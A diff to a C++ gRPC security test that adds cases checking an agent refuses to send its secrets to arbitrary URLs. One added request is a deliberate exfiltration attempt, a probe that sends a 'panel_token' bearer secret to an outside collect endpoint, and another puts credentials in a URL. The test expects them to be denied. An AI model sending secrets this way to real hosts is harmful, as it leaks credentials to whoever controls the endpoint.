@@ -126,10 +126,22 @@ TEST_F(SecurityE2E, NothingExecutableOrAPathCanBeSmuggledThroughAnyField) {
     r.set_step_id(std::string(100000, 'x'));
     bad.push_back(r);
   }
+  with_probe([](v1::ProbeSpec* p) { p->mutable_http()->set_url("http://user:pw@127.0.0.1:8080/health"); });
   for (const auto& req : bad) {
     grpc::Status s = Execute(stub.get(), req);
     EXPECT_EQ(s.error_code(), grpc::StatusCode::INVALID_ARGUMENT) << req.ShortDebugString().substr(0, 200);
   }
+  // The agent's secrets go only where its own config allows (here: its loopback), never to a
+  // URL a request names.
+  v1::ExecuteRequest exfil = StopRequest("sls-api.service");
+  auto* p = exfil.add_probes();
+  p->set_name("exfil");
+  p->set_timeout_ms(100);
+  p->mutable_http()->set_url("http://10.77.0.1:9/collect");
+  p->mutable_http()->set_bearer_secret("panel_token");
+  grpc::Status denied = Execute(stub.get(), exfil);
+  EXPECT_EQ(denied.error_code(), grpc::StatusCode::PERMISSION_DENIED) << denied.error_message();
+  EXPECT_NE(denied.error_message().find("may not be sent to"), std::string::npos);
   EXPECT_EQ(MainPid("api", "sls-api.service"), pid) << "nothing changed";
   EXPECT_FALSE(std::filesystem::exists("/tmp/pwned"));
 }
